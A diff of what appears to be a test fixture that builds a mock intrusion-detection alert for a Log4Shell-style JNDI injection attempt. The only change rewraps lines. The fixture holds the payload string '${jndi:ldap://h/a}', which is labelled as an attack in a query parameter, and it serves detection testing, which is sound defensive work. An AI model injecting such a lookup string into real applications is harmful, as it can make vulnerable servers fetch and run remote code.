@@ -38,8 +38,8 @@ def alert(jndi=None, **more):
         "direction": "to_server", "http": {"url": "/"}, "flow": {"pkts_toserver": 1},
         "payload_printable": "GET /",
         "alert": {"signature_id": 9000101, "severity": 1, "context": {
-            "jndi": {"class": "attack", "field": "http.uri_param.q", "raw": "$" + "{jndi:ldap://h/a}",
-                     "decoded": "jndi:ldap://h/a", "lookups": ["jndi:ldap://h/a"],
+            "jndi": {"class": "attack", "field": "http.uri_param.q",
+                     "raw": "$" + "{jndi:ldap://h/a}", "decoded": "jndi:ldap://h/a", "lookups": ["jndi:ldap://h/a"],
                      "scheme": "ldap", "reaches_network": True, "depth": 1, "attack_id": "a-1",
                      "stage": "attempt", "encodings": ["percent"], **(jndi or {})},
             "source": {"scope": "documentation"}, "destination": {"scope": "documentation"}}}}
